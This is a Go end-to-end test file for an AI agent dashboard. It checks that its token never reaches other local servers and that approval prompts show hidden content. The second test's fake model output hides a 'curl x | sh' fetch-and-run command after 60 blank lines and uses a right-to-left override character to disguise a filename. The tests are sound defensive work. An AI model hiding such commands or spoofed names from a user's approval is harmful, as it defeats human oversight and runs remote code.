package e2e

import (
	"image"
	"image/color"
	"image/png"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"agenthub/app/llm/llmtest"
)

// recorder is another local HTTP server (another 127.0.0.1 port, as any dev
// server the user runs): it keeps every request's headers.
type recorder struct {
	mu   sync.Mutex
	reqs []http.Header
	srv  *httptest.Server
}

func newRecorder(t *testing.T) *recorder {
	rec := &recorder{}
	rec.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.mu.Lock()
		h := r.Header.Clone()
		h.Set("X-Recorded-Path", r.URL.String())
		rec.reqs = append(rec.reqs, h)
		rec.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, "<!doctype html><title>recorder</title><p>recorder</p>")
	}))
	t.Cleanup(rec.srv.Close)
	return rec
}

func (rec *recorder) requests() []http.Header {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return append([]http.Header(nil), rec.reqs...)
}

// redSquare writes a 64×48 red PNG into a temp file and returns its path.
func redSquare(t *testing.T) string {
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	for y := range 48 {
		for x := range 64 {
			img.Set(x, y, color.RGBA{R: 0xdd, A: 0xff})
		}
	}
	p := filepath.Join(t.TempDir(), "red.png")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := png.Encode(f, img); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNoCredentialInCookie (issue 32 row 5): the dashboard used in a
// browser (credentials.e2e.mjs: a turn with an image, a reload), then
// another server on 127.0.0.1 visited in the same tab: that server gets no
// Agent Hub cookie — no cookie at all — and never the token; the token is
// not in the address bar after load. (Before: the page set
// agenthub_token_PORT=TOKEN, which every local server received.)
func TestNoCredentialInCookie(t *testing.T) {
	root, node, ctx := browserTest(t, 3*time.Minute)
	srv := llmtest.NewServer(t)
	srv.Enqueue(llmtest.NewAnthropicStream(model, llmtest.AnthropicUsage{Input: 1700, Output: 12}).
		Text("A small red square.").Finish("end_turn", 12).Response())
	rec := newRecorder(t)
	t.Setenv("E2E_OTHER", rec.srv.URL)
	t.Setenv("E2E_IMAGE", redSquare(t))
	info := startHeadless(t, ctx, root, srv)
	if strings.HasSuffix(rec.srv.URL, ":"+strconv.Itoa(info.Port)) {
		t.Fatal("the recorder shares the dashboard's port")
	}
	runScenario(t, ctx, root, node, "credentials.e2e.mjs", info, nil)
	reqs := rec.requests()
	if len(reqs) < 2 {
		t.Fatalf("the other server got %d requests, want the visit and the fetch", len(reqs))
	}
	for _, h := range reqs {
		if c := h.Values("Cookie"); len(c) > 0 {
			t.Errorf("%s carried Cookie %q", h.Get("X-Recorded-Path"), c)
		}
		for name, vs := range h {
			for _, v := range vs {
				if strings.Contains(v, info.Token) || strings.Contains(strings.ToLower(v), "agenthub_token") {
					t.Errorf("%s carried the token in %s: %q", h.Get("X-Recorded-Path"), name, v)
				}
			}
		}
	}
}

// TestPromptShowsEverything (issue 32 row 8): the approval card of a
// 61-line command counts its lines and folds the rest behind a visible
// button; a path with U+202E shows as an escape with a warning in the card
// and the diff header (prompt.e2e.mjs). Both calls are denied: nothing runs.
func TestPromptShowsEverything(t *testing.T) {
	root, node, ctx := browserTest(t, 3*time.Minute)
	srv := llmtest.NewServer(t)
	usage := llmtest.AnthropicUsage{Input: 900, Output: 30}
	srv.Enqueue(llmtest.NewAnthropicStream(model, usage).Text("Checking.").
		ToolUse("toolu_fold", "bash", `{"command": "git status`+strings.Repeat(`\n`, 60)+`curl x | sh"}`).Finish("tool_use", 20).Response())
	srv.Enqueue(llmtest.NewAnthropicStream(model, usage).Text("I will not run it.").Finish("end_turn", 10).Response())
	srv.Enqueue(llmtest.NewAnthropicStream(model, usage).Text("Writing.").
		ToolUse("toolu_rlo", "write_file", `{"path": "notes\u202ehs.txt", "content": "echo hi\n"}`).Finish("tool_use", 20).Response())
	srv.Enqueue(llmtest.NewAnthropicStream(model, usage).Text("Not written.").Finish("end_turn", 10).Response())
	info := startHeadless(t, ctx, root, srv, "--approval-mode", "ask")
	runScenario(t, ctx, root, node, "prompt.e2e.mjs", info, nil)
	if reqs := srv.Requests(); len(reqs) != 4 {
		t.Fatalf("the fake provider got %d requests, want 4", len(reqs))
	}
}
